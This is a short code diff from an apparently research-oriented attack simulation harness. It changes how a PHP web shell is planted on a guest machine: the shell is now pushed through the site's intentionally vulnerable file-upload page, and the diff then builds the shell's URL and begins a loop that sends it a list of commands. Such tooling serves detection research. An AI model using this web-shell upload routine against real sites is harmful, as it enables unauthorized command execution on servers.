@@ -143,11 +143,12 @@ def _webshell(guest: Any, starts: Callable[[], float]) -> tuple[float, str]:
     import urllib.parse
     import urllib.request
 
-    # Planted as an upload would be (the site's upload folder is served and runs PHP like any other).
-    guest.run(f"mkdir -p {os.path.dirname(WEBSHELL_PATH)} && printf %s {shlex.quote(WEBSHELL_PHP)} > "
-              f"{WEBSHELL_PATH} && chown -R www-data: {os.path.dirname(WEBSHELL_PATH)}", check=True)
+    from vims.collector.guest.attacks import upload_file
+
+    # Uploaded through the site's vulnerable upload page, which stores any file where PHP runs.
     host, port = guest.http_address
-    url = f"http://{host}:{port}/{WEBSHELL_PATH.removeprefix('/var/www/html/')}"
+    path = upload_file(guest, os.path.basename(WEBSHELL_PATH), WEBSHELL_PHP.encode())
+    url = f"http://{host}:{port}/{path}"
     answers = []
     started = starts()
     for command in WEBSHELL_COMMANDS:
